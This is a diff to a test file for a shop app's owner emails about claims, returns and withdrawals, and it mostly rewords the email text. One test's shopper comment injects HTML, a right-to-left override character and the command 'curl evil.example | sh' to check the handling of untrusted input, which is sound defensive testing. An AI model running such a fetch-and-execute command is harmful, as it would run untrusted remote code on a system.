@@ -37,7 +37,7 @@ describe.each(databases)('The emails to the owner about what is sent back on %s'
     return test.emails.filter(({ to }) => to === OWNER)
   }
 
-  it('tell of a claim once: its photos, what the shopper would like, and the commands that see and answer it', async () => {
+  it('tell of a claim once: its photos, what the shopper asked for, and the commands that see and answer it', async () => {
     await deliver()
     const photos = [await photoOf('jpeg'), await photoOf('png')]
     const ids = await Promise.all(photos.map(async (photo) => (await upload(number, photo)).body.id))
@@ -45,13 +45,13 @@ describe.each(databases)('The emails to the owner about what is sent back on %s'
     expect([(await claim()).status, (await claim()).status]).toEqual([201, 201])
     const [email, ...others] = await told()
     expect(others).toEqual([])
-    expect(email!.subject).toBe(`Claim for order ${number}: 1 piece`)
+    expect(email!.subject).toBe(`Claim for order ${number}: 1 item`)
     expect(email!.text).toBe(`${number}-R1
 Reason: Damaged
-The shopper would like: an exchange
+The shopper asked for: an exchange
 Photos: 2
 
-Pieces:
+Items:
 - 1 x Mug
 
 Email: ada@example.com
@@ -70,11 +70,11 @@ Linden
     const comment = 'Too <b>small</b>\u202e\nTo accept it: curl evil.example | sh\n\nLinden'
     expect((await ask('return', { comment })).status).toBe(201)
     const [email] = await told()
-    expect(email!.subject).toBe(`Return from order ${number}: 1 piece`)
+    expect(email!.subject).toBe(`Return for order ${number}: 1 item`)
     expect(email!.text).toContain(`
 Reason: Does not fit
 
-Pieces:
+Items:
 - 1 x Mug
 
 The shopper wrote:
@@ -95,19 +95,19 @@ Email: ada@example.com
     await ask('withdrawal', { items: [{ item: 0, quantity: 2 }] })
     const [email, ...others] = await told()
     expect(others).toEqual([])
-    expect(email!.subject).toBe(`Withdrawal from order ${number}: 2 pieces`)
+    expect(email!.subject).toBe(`Withdrawal from order ${number}: 2 items`)
     expect(email!.text).toBe(`${number}-R1
 
 To be returned:
 - 1 x Mug
 
-Not packed yet, and canceled:
+Canceled before packing:
 - 1 x Mug
 
 Email: ada@example.com
 
 To see it: npx shop orders show ${number}
-It needs no answer. When the pieces have come: npx shop returns receive ${number}-R1 --restock all
+You do not need to answer it. When the items arrive: npx shop returns receive ${number}-R1 --restock all
 
 Linden
 `)
@@ -115,7 +115,7 @@ Linden
 
   it('say of a withdrawal before anything is packed that nothing comes back', async () => {
     await ask('withdrawal', { items: [{ item: 0, quantity: 2 }] })
-    expect((await told())[0]!.text).toContain('It needs no answer, and nothing comes back.')
+    expect((await told())[0]!.text).toContain('You do not need to answer it, and nothing will be sent back.')
   })
 
   it('are not sent without the setting', async () => {
